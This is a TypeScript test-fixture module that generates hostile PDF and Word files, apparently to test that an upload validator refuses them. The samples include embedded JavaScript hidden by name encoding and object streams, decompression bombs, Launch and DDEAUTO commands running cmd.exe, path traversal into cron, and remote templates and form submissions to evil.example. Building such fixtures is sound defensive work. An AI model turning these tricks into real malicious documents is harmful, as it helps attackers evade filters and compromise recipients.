import { deflateSync, gzipSync } from 'node:zlib'
import { strToU8, zipSync, type Zippable } from 'fflate'

export interface HostileFile {
  readonly name: string
  readonly bytes: Buffer
  /** Accepted without this content; if absent, the file is refused. */
  readonly without?: string
}

const content = (extraMarkup = '') =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${extraMarkup}</Types>`
const body = (inside: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inside}</w:p></w:body></w:document>`
const document: Zippable = {
  '[Content_Types].xml': strToU8(content()),
  'word/document.xml': strToU8(body('<w:r><w:t>Curriculum vitae</w:t></w:r>')),
}
export const docx = (extraFiles: Zippable = {}): Buffer =>
  Buffer.from(zipSync({ ...document, ...extraFiles }))

const relations = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
const kindOf = (type: string) =>
  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
  strToU8(
    `<Relationships ${relations}><Relationship Id="r1" Type="${kindOf(type)}" Target="${target}" ${mode}/></Relationships>`,
  )
const settings = (text: string | Uint8Array) =>
  docx({ 'word/_rels/settings.xml.rels': typeof text === 'string' ? strToU8(text) : text })
const template = `Type="${kindOf('attachedTemplate')}" Target="http://evil.example/t.dotm"`
const utf16 = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const field = (...instructions: string[]) =>
  docx({
    'word/document.xml': strToU8(
      body(
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions.map((instruction) => `<w:r><w:instrText>${instruction}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
    ),
  })

/** An archive whose directory lists the same compressed bytes as many parts. */
function overlapping(): Buffer {
  const nameOf = (index: number) => `word/media/${String(index).padStart(3, '0')}.png`
  const archive = docx({ [nameOf(0)]: [new Uint8Array(900_000).fill(7), { level: 0 }] })
  const end = archive.length - 22
  const from = archive.readUInt32LE(end + 16)
  const entry = archive.subarray(archive.indexOf(nameOf(0), from) - 46, end)
  const copies = Array.from({ length: 300 }, (_, index) => {
    const copy = Buffer.from(entry)
    copy.write(nameOf(index + 1), 46, 'latin1')
    return copy
  })
  const directory = Buffer.concat([archive.subarray(from, end), ...copies])
  const tail = Buffer.from(archive.subarray(end))
  for (const offset of [8, 10])
    tail.writeUInt16LE(tail.readUInt16LE(offset) + copies.length, offset)
  tail.writeUInt32LE(directory.length, 12)
  return Buffer.concat([archive.subarray(0, from), directory, tail])
}

/**
 * Builds a PDF from numbered objects in order, with a cross-reference table of the last of each.
 */
export function pdfOf(
  objects: readonly (readonly [number: number, body: string | Buffer])[],
  trailer = '',
): Buffer {
  const chunks = [Buffer.from('%PDF-1.7\n')]
  const offsets = new Map<number, number>()
  let length = chunks[0]?.length ?? 0
  for (const [number, inside] of objects) {
    const part = Buffer.concat([
      Buffer.from(`${number} 0 obj\n`),
      typeof inside === 'string' ? Buffer.from(inside, 'latin1') : inside,
      Buffer.from('\nendobj\n'),
    ])
    offsets.set(number, length)
    chunks.push(part)
    length += part.length
  }
  const table = [...offsets]
    .map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`)
    .join('')
  const end = `xref\n0 1\n0000000000 65535 f \n${table}trailer\n<< /Size 100 /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`
  return Buffer.concat([...chunks, Buffer.from(end, 'latin1')])
}

const page: readonly [number, string] = [2, '<< /Type /Pages /Kids [] /Count 0 >>']
export const pdf = (
  catalog = '',
  extraObjects: readonly (readonly [number, string | Buffer])[] = [],
  trailer = '',
): Buffer =>
  pdfOf([[1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`], page, ...extraObjects], trailer)

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const action = (dictionary: string) => pdf(`/OpenAction ${dictionary}`)
/** The catalog is beside the script in a compressed stream, as office programs write it. */
function createPackedObjects(
  type: string,
  { inside = `/OpenAction ${script}`, padding = '' } = {},
): Buffer {
  const catalog = `<< /Type /Catalog /Pages 2 0 R ${inside} >>`
  const stream = deflateSync(Buffer.from(`1 0 ${catalog}`))
  const head = `<< ${padding} /Type ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`
  return pdfOf([page, [3, Buffer.concat([Buffer.from(head), stream, Buffer.from('\nendstream')])]])
}

export const hostilePdfs: readonly HostileFile[] = [
  { name: 'script.pdf', bytes: action(script) },
  { name: 'disguised.pdf', bytes: action('<< /S /J#61vaScr#69pt >>') },
  { name: 'disguised-key.pdf', bytes: action('<< /S 3 0 R /#4a#53 (app.alert(1)) >>') },
  { name: 'hidden.pdf', bytes: createPackedObjects('/ObjStm') },
  { name: 'hidden-spelled.pdf', bytes: createPackedObjects('/Obj#53tm') },
  { name: 'hidden-spelled-first.pdf', bytes: createPackedObjects('/#4fbjStm') },
  {
    name: 'hidden-padded.pdf',
    bytes: createPackedObjects('/ObjStm', { padding: `/Note (${'x'.repeat(600)})` }),
  },
  { name: 'hidden-commented.pdf', bytes: createPackedObjects('% /ObjStm\n/ObjStm') },
  { name: 'named-elsewhere.pdf', bytes: pdf('/OpenAction << /S 5 0 R >>', [[5, '/JavaScript']]) },
  {
    name: 'script-in-stream.pdf',
    bytes: pdf('/OpenAction << /JS 5 0 R >>', [
      [5, '<< /Length 9 >>\nstream\napp.alert\nendstream'],
    ]),
  },
  { name: 'additional.pdf', bytes: pdf('', [[7, `<< /Type /Page /AA << /O ${script} >> >>`]]) },
  {
    name: 'in-hexadecimal.pdf',
    bytes: pdf('', [[7, '<A /Type /Page /AA << /O << /S /JavaScript /JS (app.alert(1)) >']]),
  },
  { name: 'next.pdf', bytes: action(`<< /S /GoTo /D [7 0 R /Fit] /Next ${script} >>`) },
  { name: 'deep.pdf', bytes: pdf(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`) },
  { name: 'bomb.pdf', bytes: bombPdf() },
  { name: 'launch.pdf', bytes: action('<< /S /Launch /F (cmd.exe) >>') },
  {
    name: 'sends.pdf',
    bytes: action('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>'),
  },
  { name: 'opens.pdf', bytes: action('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0] >>') },
  { name: 'share.pdf', bytes: action('<< /S /URI /URI (file://evil.example/share) >>') },
  {
    name: 'script-link.pdf',
    bytes: action('<< /S /URI /URI <6a6176617363726970743a616c657274283129> >>'),
  },
  {
    name: 'elsewhere.pdf',
    bytes: pdf('', [[8, '<< /F (\\\\\\\\evil.example\\\\a) /Length 0 >>\nstream\n\nendstream']]),
  },
  { name: 'carrier.pdf', bytes: pdf('/Names << /EmbeddedFiles 9 0 R >>') },
  {
    name: 'attached.pdf',
    bytes: pdf('', [
      [7, '<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 8 0 R >> >> >>'],
    ]),
  },
  { name: 'media.pdf', bytes: pdf('', [[7, '<< /Type /Annot /Subtype /RichMedia >>']]) },
  { name: 'xfa.pdf', bytes: pdf('/AcroForm << /XFA [(a) 9 0 R] >>') },
  { name: 'sealed.pdf', bytes: pdf('', [[8, '<< /Filter /Standard /V 4 >>']], '/Encrypt 8 0 R') },
  { name: 'revised.pdf', bytes: pdf('', [[5, script], [5, '<< /Type /Metadata >>']]), without: 'app.alert' }, // prettier-ignore
  { name: 'loose.pdf', bytes: pdf('', [[5, '<< >>\nendobj\n%'], [6, `<< >>\nendobj\n/JavaScript (app.alert)`]]), without: 'app.alert' }, // prettier-ignore
  { name: 'archive-behind.pdf', bytes: Buffer.concat([pdf(), docx()]) },
  {
    name: 'page-before.pdf',
    bytes: Buffer.concat([Buffer.from('<html><script>1</script>'), pdf()]),
  },
  { name: 'packed.pdf', bytes: gzipSync(pdf()) },
  { name: 'no-catalog.pdf', bytes: pdfOf([page]) },
  { name: 'cut.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj') },
]

function bombPdf(): Buffer {
  const stream = deflateSync(Buffer.alloc(50_000_000))
  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`
  return pdf('', [[3, Buffer.concat([Buffer.from(head), stream, Buffer.from('\nendstream')])]])
}

export const hostileDocx: readonly HostileFile[] = [
  { name: 'archive.docx', bytes: Buffer.from(zipSync({ 'readme.txt': strToU8('hello') })) },
  { name: 'sheet.docx', bytes: Buffer.from(zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<x/>') })) },
  { name: 'macro.docx', bytes: docx({ 'word/vbaProject.bin': strToU8('attribut') }) },
  { name: 'macro-renamed.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('vbaProject', 'styles.xml', '') }) },
  {
    name: 'macro-type.docx',
    bytes: docx({
      '[Content_Types].xml': strToU8(
        content(
          `<Override PartName="/word/document.xml" ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/>`,
        ),
      ),
    }),
  },
  { name: 'bomb.docx', bytes: docx({ 'word/media/a.xml': [new Uint8Array(80_000_000), { level: 9 }] }) },
  { name: 'ratio.docx', bytes: docx({ 'word/media/a.xml': [new Uint8Array(20_000_000), { level: 9 }] }) },
  { name: 'overlapping.docx', bytes: overlapping() },
  { name: 'many.docx', bytes: docx(Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`word/a${index}.xml`, strToU8('<x/>')]))) },
  { name: 'climbing.docx', bytes: docx({ '../../etc/cron.d/job': strToU8('* * * * * root id') }) },
  { name: 'rooted.docx', bytes: docx({ '/etc/passwd': strToU8('root') }) },
  { name: 'twice.docx', bytes: docx({ 'WORD/document.xml': strToU8('<x/>') }) },
  { name: 'program-inside.docx', bytes: docx({ 'word/media/run.exe': strToU8('MZ') }) },
  { name: 'page-inside.docx', bytes: docx({ 'word/afchunk.htm': strToU8('<script>1</script>') }) },
  { name: 'chunk.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('aFChunk', 'media/a.png', '') }) },
  { name: 'template.docx', bytes: settings(relation('attachedTemplate', 'http://evil.example/t.dotm')) },
  { name: 'template-quoted.docx', bytes: settings(`<Relationships ${relations}><Relationship ${template} TargetMode='External'/></Relationships>`) },
  { name: 'template-spaced.docx', bytes: settings(`<Relationships ${relations}><Relationship ${template} TargetMode = "External"/></Relationships>`) },
  { name: 'template-spelled.docx', bytes: settings(`<Relationships ${relations}><Relationship ${template} TargetMode="Externa&#108;"/></Relationships>`) },
  { name: 'template-prefixed.docx', bytes: settings(`<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship ${template} TargetMode="External"/></p:Relationships>`) },
  { name: 'template-utf16.docx', bytes: settings(utf16(`<?xml version="1.0" encoding="UTF-16"?><Relationships ${relations}><Relationship ${template} TargetMode="External"/></Relationships>`)) },
  { name: 'template-declared.docx', bytes: settings(`<?xml version="1.0" encoding="UTF-7"?><Relationships ${relations}/>`) },
  { name: 'template-entity.docx', bytes: settings(`<!DOCTYPE r [<!ENTITY e "External">]><Relationships ${relations}><Relationship ${template} TargetMode="&e;"/></Relationships>`) },
  { name: 'template-broken.docx', bytes: settings(`<Relationships ${relations}><Relationship ${template} TargetMode="External">`) },
  { name: 'template-large-name.docx', bytes: docx({ 'word/_rels/SETTINGS.XML.RELS': relation('attachedTemplate', 'http://evil.example/t.dotm') }) },
  { name: 'template-inside.docx', bytes: settings(relation('attachedTemplate', 'http://evil.example/t.dotm', 'TargetMode="Internal"')) },
  { name: 'template-relative.docx', bytes: settings(relation('attachedTemplate', 't.dotm', '')) },
  { name: 'hyperlink-like.docx', bytes: settings(`<Relationships ${relations}><Relationship ${template} Note="/hyperlink" TargetMode="External"/></Relationships>`) },
  { name: 'link-to-share.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'file://evil.example/share') }) },
  { name: 'frame.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('oleObject', 'http://evil.example/o') }) },
  { name: 'embedded.docx', bytes: docx({ 'word/embeddings/oleObject1.bin': strToU8('MZ') }) },
  { name: 'command.docx', bytes: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') },
  { name: 'command-in-parts.docx', bytes: field(' DD', 'EAU', 'TO cmd') },
  { name: 'command-by-codes.docx', bytes: field('QUOTE 68 68 69 65 85 84 79') },
  { name: 'picture-elsewhere.docx', bytes: field('INCLUDEPICTURE "http://evil.example/a.png"') },
  { name: 'page-behind.docx', bytes: Buffer.concat([docx(), Buffer.from('<html>')]) },
] // prettier-ignore

/** Documents as office programs write them. */
export const goodDocx = docx({
  'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.com/link'),
  'word/media/image1.png': strToU8('not looked into'),
  'word/document.xml': strToU8(
    body(
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://example.com/link/embed" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>quote</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr=" PAGE "/>',
    ),
  ),
})
export const goodPdf = pdf('/OpenAction << /S /GoTo /D [7 0 R /Fit] >>', [
  [
    7,
    '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /F 4 /A << /S /URI /URI (https://example.com/a?b=c:d) >> >>] >>',
  ],
])
